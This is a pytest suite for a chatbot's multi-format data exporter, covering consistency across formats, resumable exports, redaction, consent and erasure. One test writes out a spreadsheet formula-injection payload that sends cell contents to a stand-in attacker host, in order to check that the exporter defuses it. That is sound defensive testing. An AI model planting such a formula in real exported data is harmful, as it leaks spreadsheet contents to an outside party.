"""The same touchpoints and figures from every format, whole or not at all, and from where the last export ended."""

import asyncio
import csv
import json
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import duckdb
import pytest

from bot.cx.exports.lines import FORMULAS, scrub_csv, write_csv
from bot.cx.exports.manifest import MANIFEST
from bot.dialogue.work import Agent
from bot.errors import BotError, Refused
from bot.operations.export import Wanted, export
from bot.operations.privacy import erase
from bot.records import Touchpoint
from bot.settings import Settings
from bot.touchpoints.columns import COLUMNS, row
from bot.touchpoints.consent import Purpose
from bot.touchpoints.export import cloud_event
from bot.touchpoints.identities import Id, Kind
from bot.web.services import Services
from tests.conftest import Clock
from tests.conversations.test_customers import Shop
from tests.outside.test_events import event

AGENT = Agent("anna-id", "Anna")
XES = "{http://www.xes-standard.org/}"
FORMATS = ("jsonl", "csv", "parquet", "xes")


@pytest.fixture
async def filled(services: Services, settings: Settings, clock: Clock) -> Services:
    """A log of three days, with what makes formats stumble."""
    for day in range(3):
        conversation = (
            await services.start.begin(None, "en", None, Shop(settings, clock).identity(f"c{day}"))
        ).conversation_id
        for text in (f'where is "order" 4821{day}, it\'s\nlate; mail lena{day}@mail.example', "hello"):
            await services.receive.message(conversation, str(uuid.uuid4()), text)
        await services.receive.quick_reply(conversation, str(uuid.uuid4()), "person")
        await services.hand_off.claim(conversation, AGENT)
        await services.hand_off.resolve(conversation, AGENT)
        await services.feedback.give(conversation, str(uuid.uuid4()), 1, "csat", 3 + day, 'a "good" comment')
        source = 'https://shop.example/a,b"<&>\u0001'
        await services.ingest.take(
            [
                event(id=f"{day}", source=source, data={"customer_id": f"c{day}", "amount": 1.5, "quantity": 2}),
                event(id=f"n{day}", time="2026-03-01T23:59:59.999Z", data={"channel": "web"}),
            ]
        )
        clock.pass_(days=1)
    return services


async def written(settings: Settings, format_: str, out: Path, **more: Any) -> tuple[int, int]:
    made = await asyncio.to_thread(export, settings, Wanted(format_, out, **more))
    return made.count, made.position


def xes_rows(path: Path) -> Iterator[dict[str, str]]:
    for trace in ElementTree.parse(path).getroot().findall(f"{XES}trace"):
        [subject] = [one.get("value") for one in trace if one.get("key") == "concept:name"]
        for one in trace.findall(f"{XES}event"):
            yield {"subject": subject or "", **{str(it.get("key")): str(it.get("value")) for it in one}}


def figures(database: duckdb.DuckDBPyConnection, table: str) -> list[Any]:
    """What a report is made of, by plain SQL; times in milliseconds, so that each format has them alike."""
    return database.sql(
        f"""SELECT type, count(*), count(DISTINCT subject), count(DISTINCT customer_ref),
            count(DISTINCT conversation_id),
            sum(CAST(score AS DOUBLE)), sum(CAST(amount AS DOUBLE)), round(sum(CAST(confidence AS DOUBLE)), 9),
            count(*) FILTER (CAST(in_scope AS BOOLEAN)), max(CAST(seq AS BIGINT)), sum(CAST(position AS BIGINT)),
            min(epoch_ms(CAST(time AS TIMESTAMPTZ))), max(epoch_ms(CAST(time AS TIMESTAMPTZ))),
            count(DISTINCT stage || coalesce(stage_method, '')), min(source)
        FROM {table} GROUP BY type ORDER BY type"""
    ).fetchall()


async def test_every_format_has_the_same_touchpoints_and_figures(
    filled: Services, settings: Settings, tmp_path: Path
) -> None:
    everything = await filled.log.tail(0, 10_000)
    made = {name: await written(settings, name, tmp_path / f"out.{name}") for name in FORMATS}
    assert set(made.values()) == {(len(everything), everything[-1].position)}
    database = duckdb.connect()
    database.sql("SET TimeZone = 'UTC'")
    events = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert events == [cloud_event(one, "urn:bot") for one in everything]
    # Each is read by its own reader, none of them ours.
    database.sql(
        f"""CREATE TABLE jsonl AS SELECT e.* EXCLUDE (data), unnest(e.data) FROM read_json('{tmp_path}/out.jsonl',
        columns = {{position: 'BIGINT', id: 'VARCHAR', source: 'VARCHAR', type: 'VARCHAR', time: 'VARCHAR',
        subject: 'VARCHAR', data: 'STRUCT({_struct()})'}}) e"""
    )
    database.sql(f"CREATE TABLE csv AS SELECT * FROM read_csv('{tmp_path}/out.csv', all_varchar = true, nullstr = '')")
    database.sql(f"CREATE VIEW parquet AS SELECT * FROM read_parquet('{tmp_path}/out.parquet/*/*.parquet')")
    expected = figures(database, "jsonl")
    assert len(expected) > 8
    assert figures(database, "csv") == expected
    assert figures(database, "parquet") == expected
    days = database.sql("SELECT DISTINCT day, CAST(time AS DATE) FROM parquet").fetchall()
    assert all(day == of_time for day, of_time in days)
    assert len(days) == 4
    flat = [{name: str(value) for name, value in row(one).items()} for one in events]
    found = sorted(xes_rows(tmp_path / "out.xes"), key=lambda one: int(one["position"]))
    assert [one["concept:name"] for one in found] == [one["type"] for one in events]
    for one, sent in zip(found, flat, strict=True):
        assert one["subject"] == sent["subject"]
        assert one["time:timestamp"] == sent["time"]
        more = {
            name: value.lower() for name, value in sent.items() if name not in ("type", "time", "subject", "source")
        }
        assert {name: one[name].lower() for name in more} == more
    # Nothing in any of them names a person.
    said = b"".join(path.read_bytes() for path in tmp_path.rglob("out.*") if path.is_file())
    assert b"lena" not in said
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
        assert list(next(csv.reader(file))) == list(COLUMNS)


_DATA = [
    name for name in COLUMNS if name not in ("position", "id", "source", "type", "time", "recordedtime", "subject")
]


def _struct() -> str:
    return ", ".join(f'"{name}" VARCHAR' for name in _DATA)


@pytest.mark.parametrize("format_", ["jsonl", "csv", "parquet"])
async def test_an_export_goes_on_where_it_ended(
    filled: Services, settings: Settings, tmp_path: Path, format_: str
) -> None:
    folder = tmp_path / "parts"
    with pytest.raises(Refused, match="some would never come"):
        await written(settings, format_, folder, goes_on=True, until="2026-01-31")
    first = await written(settings, format_, folder, goes_on=True)
    assert await written(settings, format_, folder, goes_on=True) == (0, first[1])
    await filled.ingest.take([event(id="later", data={"customer_id": "c1", "score": 5})])
    head = (await filled.log.last_position()) - first[1]
    # A run that was killed leaves a part that nobody has named, and one that was being written.
    stray = folder / "day=2026-03-01" / "part-9_0.parquet" if format_ == "parquet" else folder / f"part-9.{format_}"
    stray.write_bytes(b"half")
    (folder / ".bot-left").mkdir()
    assert await written(settings, format_, folder, goes_on=True) == (head, first[1] + head)
    assert not stray.exists()
    assert not (folder / ".bot-left").exists()
    reader = {"jsonl": f"read_json('{folder}/*.jsonl', columns = {{position: 'BIGINT'}})"}
    reader["csv"] = f"read_csv('{folder}/*.csv', all_varchar = true, union_by_name = true)"
    reader["parquet"] = f"read_parquet('{folder}/*/*.parquet')"
    positions = duckdb.sql(f"SELECT CAST(position AS BIGINT) FROM {reader[format_]}").fetchall()
    assert sorted(one for (one,) in positions) == [one.position for one in await filled.log.tail(0, 10_000)]
    for other, reason in ((FORMATS[3], "anew"), ("csv" if format_ == "jsonl" else "jsonl", "go on with the same")):
        with pytest.raises(Refused, match=reason):
            await written(settings, other, folder, goes_on=True)
    manifest = json.loads((folder / MANIFEST).read_text())
    (folder / MANIFEST).write_text(json.dumps({**manifest, "position": 10**6}))
    with pytest.raises(Refused, match="an older copy of the log was put back"):
        await written(settings, format_, folder, goes_on=True)


async def test_times_and_positions_choose_what_is_written(filled: Services, settings: Settings, tmp_path: Path) -> None:
    everything = await filled.log.tail(0, 10_000)
    old = [one for one in everything if one.time < 1_780_000_000_000]
    for format_ in FORMATS:
        out = tmp_path / f"some.{format_}"
        assert (await written(settings, format_, out, until="2026-05-01"))[0] == len(old) == 3
        assert (await written(settings, format_, out, since="2026-05-01"))[0] == len(everything) - len(old)
        assert (await written(settings, format_, out, after=everything[9].position))[0] == len(everything) - 10
    with pytest.raises(BotError, match="no date"):
        await written(settings, "csv", tmp_path / "x", since="soon")
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "letter.txt").write_text("dear")
    for goes_on in (False, True):
        with pytest.raises(Refused):
            await written(settings, "parquet", tmp_path / "mine", goes_on=goes_on)
    assert [path.name for path in tmp_path.glob("*unfinished*")] == []
    assert (tmp_path / "mine" / "letter.txt").read_text() == "dear"


def check_private(folder: Path) -> None:
    made = [path for path in folder.rglob("*") if path.relative_to(folder).parts[0].startswith(("texts.", "parts"))]
    assert len(made) > 6
    for path in made:
        assert path.stat().st_mode & 0o777 == (0o700 if path.is_dir() else 0o600), path


@pytest.mark.parametrize("begin", FORMULAS)
def test_a_text_in_csv_is_no_formula_and_a_number_is_a_number(tmp_path: Path, begin: str) -> None:
    text = f'{begin}HYPERLINK("http://evil.example/?"&A1)'
    facts = {"customer_ref": "c", "text": text, "mood": -0.5, "reason": "a-b"}
    event_ = cloud_event(Touchpoint("i", "conversation/x", 1, "message.received", 0, facts, {}, "c"), "urn:bot")

    async def events() -> AsyncIterator[dict[str, Any]]:
        yield event_

    out = tmp_path / "out.csv"
    for _ in range(2):
        asyncio.run(write_csv(events(), out)) if not out.exists() else scrub_csv(out, {"another"})
        with out.open(newline="", encoding="utf-8") as file:
            [found] = csv.DictReader(file)
        assert (found["text"], found["mood"], found["reason"]) == (f"'{text}", "-0.5", "a-b")


async def test_texts_are_redacted_left_out_where_refused_and_gone_once_erased(
    filled: Services, settings: Settings, tmp_path: Path
) -> None:
    await filled.people.consent(Id(Kind.CUSTOMER, "c1"), Purpose.ANALYSIS, False)
    outs = {name: tmp_path / f"texts.{name}" for name in ("jsonl", "csv", "parquet")}
    for name, out in outs.items():
        await written(settings, name, out, texts=True)
    await written(settings, "csv", tmp_path / "parts", texts=True, goes_on=True)
    with pytest.raises(Refused, match="without texts"):
        await written(settings, "xes", tmp_path / "x", texts=True)

    def texts() -> dict[str, str]:
        read = duckdb.sql(f"SELECT text FROM read_parquet('{outs['parquet']}/*/*.parquet') WHERE text IS NOT NULL")
        [part] = (tmp_path / "parts").glob("part-*.csv")
        plain = {name: path.read_text() for name, path in (*outs.items(), ("parts", part)) if path.is_file()}
        return {**plain, "parquet": str(read.fetchall())}

    for name, text in texts().items():
        assert "4821" in text, name
        assert "[email]" in text
        assert "mail.example" not in text
        assert "48211" not in text  # refused
        assert "48210" in text
    check_private(tmp_path)
    await asyncio.to_thread(erase, settings, "c0")
    for name, text in texts().items():
        assert "48210" not in text, name
        assert "48212" in text
    check_private(tmp_path)
    rows = duckdb.sql(f"SELECT count(*) FROM read_parquet('{outs['parquet']}/*/*.parquet')").fetchall()
    assert rows[0][0] == len((outs["jsonl"]).read_text().splitlines())
    outs["csv"].unlink()
    # What can't be changed is named and keeps nothing else as it was.
    next(outs["parquet"].rglob("*.parquet")).write_bytes(b"damaged")
    _, _, unreachable = await asyncio.to_thread(erase, settings, "c2")
    assert unreachable == [outs["parquet"].resolve()]
    assert "48212" not in outs["jsonl"].read_text()
    left = {str(one["path"]) for one in await filled.log.rows("managed_export")}
    assert str(outs["csv"].resolve()) not in left
    assert str(outs["jsonl"].resolve()) in left


async def test_a_damaged_export_is_named_and_keeps_no_other_from_being_scrubbed(
    filled: Services, settings: Settings, tmp_path: Path
) -> None:
    outs = {
        name: tmp_path / f"{letter}.{name}" for letter, name in zip("abz", ("jsonl", "parquet", "csv"), strict=True)
    }
    parts = tmp_path / "parts"
    for name, out in outs.items():
        await written(settings, name, out, texts=True)
    await written(settings, "jsonl", parts, texts=True, goes_on=True)
    await filled.ingest.take([event(id="later", data={"customer_id": "c1", "score": 5})])
    await written(settings, "jsonl", parts, texts=True, goes_on=True)
    *_, last = sorted(parts.glob("part-*"))
    days = sorted(outs["parquet"].glob("day=*/*.parquet"))
    for damaged in (outs["jsonl"], last, days[0]):
        damaged.write_bytes(damaged.read_bytes()[:-20])
    _, _, unreachable = await asyncio.to_thread(erase, settings, "c2")
    assert unreachable == [outs["jsonl"].resolve(), outs["parquet"].resolve(), parts.resolve()]
    assert "48212" not in outs["csv"].read_text()
    assert "48212" not in "".join(path.read_text() for path in parts.glob("part-*"))
    left = f"SELECT text FROM read_parquet({[str(path) for path in days[1:]]}) WHERE text IS NOT NULL"
    assert "48212" not in str(duckdb.sql(left).fetchall())
    outs["csv"].write_text("something else\n")
    assert outs["csv"].resolve() in (await asyncio.to_thread(erase, settings, "c0"))[2]


async def test_what_is_written_to_a_place_again_is_known_by_what_it_is_now(
    filled: Services, settings: Settings, tmp_path: Path
) -> None:
    out, other = tmp_path / "out", tmp_path / "other"
    await written(settings, "jsonl", out, texts=True)
    await written(settings, "csv", out)
    await written(settings, "jsonl", other, texts=True)
    await written(settings, "csv", other, texts=True)
    known = {str(one["path"]): one["format"] for one in await filled.log.rows("managed_export")}
    assert known == {str(other.resolve()): "csv"}
    assert (await asyncio.to_thread(erase, settings, "c0"))[2] == []
    assert "48210" not in other.read_text()


@pytest.mark.parametrize("format_", ["jsonl", "parquet"])
async def test_nothing_of_the_erased_is_in_what_a_run_that_was_cut_off_has_left(
    filled: Services, settings: Settings, tmp_path: Path, format_: str
) -> None:
    folder, file, never = tmp_path / "parts", tmp_path / "out.csv", tmp_path / "never"
    await written(settings, format_, folder, texts=True, goes_on=True)
    await written(settings, "csv", file, texts=True)
    await written(settings, "csv", never, texts=True)
    parts = sorted([*folder.glob("part-*"), *folder.glob("day=*/part-*")])
    (folder / ".bot-left").mkdir()
    left = [
        folder / ".bot-left" / "rows",
        folder / f"part-8.{format_}.unfinished",
        parts[0].with_name(f"part-9_0.{format_}"),
        tmp_path / "out.csv.unfinished",
        tmp_path / "never.unfinished",
    ]
    for path in left:
        path.write_text("order 48210, cut o")
    never.unlink()
    assert (await asyncio.to_thread(erase, settings, "c0"))[2] == []
    assert [path for path in left if path.exists()] == []
    assert all(path.exists() for path in (*parts, file))
    assert {str(one["path"]) for one in await filled.log.rows("managed_export")} == {str(folder), str(file)}
    # Where the first run was cut off, or the manifest is damaged, every part is scrubbed as it is.
    for manifest in (None, "{"):
        (folder / MANIFEST).unlink() if manifest is None else (folder / MANIFEST).write_text(manifest)
        assert (await asyncio.to_thread(erase, settings, "c1" if manifest else "c2"))[2] == []
    assert all(path.exists() for path in parts)
    if format_ == "jsonl":
        assert "4821" not in "".join(path.read_text() for path in parts)


@pytest.mark.parametrize("goes_on", [False, True])
async def test_an_export_during_which_somebody_is_erased_leaves_nothing(
    filled: Services, settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, goes_on: bool
) -> None:
    async def erased_meanwhile(*_: Any) -> AsyncIterator[dict[str, Any]]:
        for unfinished in tmp_path.rglob("*.unfinished"):
            unfinished.unlink()
        yield cloud_event(Touchpoint("i", "conversation/x", 1, "message.received", 0, {}, {}, "c"), "urn:bot")

    monkeypatch.setattr("bot.cx.exports.writing.exported", erased_meanwhile)
    with pytest.raises(Refused, match="erased meanwhile; export again"):
        await written(settings, "jsonl", tmp_path / "out", texts=True, goes_on=goes_on)
    assert [path for path in tmp_path.rglob("out*") if path.is_file()] == []
    assert not list((tmp_path / "out").glob("*"))


@pytest.mark.parametrize("format_", ["jsonl", "csv", "parquet"])
async def test_a_folder_that_is_not_whole_is_not_gone_on_with(
    filled: Services, settings: Settings, tmp_path: Path, format_: str
) -> None:
    folder = tmp_path / "parts"
    for _ in range(3):
        await written(settings, format_, folder, goes_on=True)
    manifest = json.loads((folder / MANIFEST).read_text())
    parts = [path.relative_to(folder).as_posix() for path in folder.rglob("part-*")]
    assert sorted(parts) == sorted(manifest["parts"])  # nothing new adds no part
    assert len(parts) == (4 if format_ == "parquet" else 1)
    for wrong in ({"position": "2641"}, {"position": True}, {"parts": "part-1"}, {"parts": ["../x"]}, {"texts": 1}):
        (folder / MANIFEST).write_text(json.dumps({**manifest, **wrong}))
        with pytest.raises(Refused, match="is damaged"):
            await written(settings, format_, folder, goes_on=True)
    (folder / MANIFEST).write_text(json.dumps(manifest))
    (folder / parts[0]).unlink()
    with pytest.raises(Refused, match="is gone; put it back, or remove the folder and export anew"):
        await written(settings, format_, folder, goes_on=True)
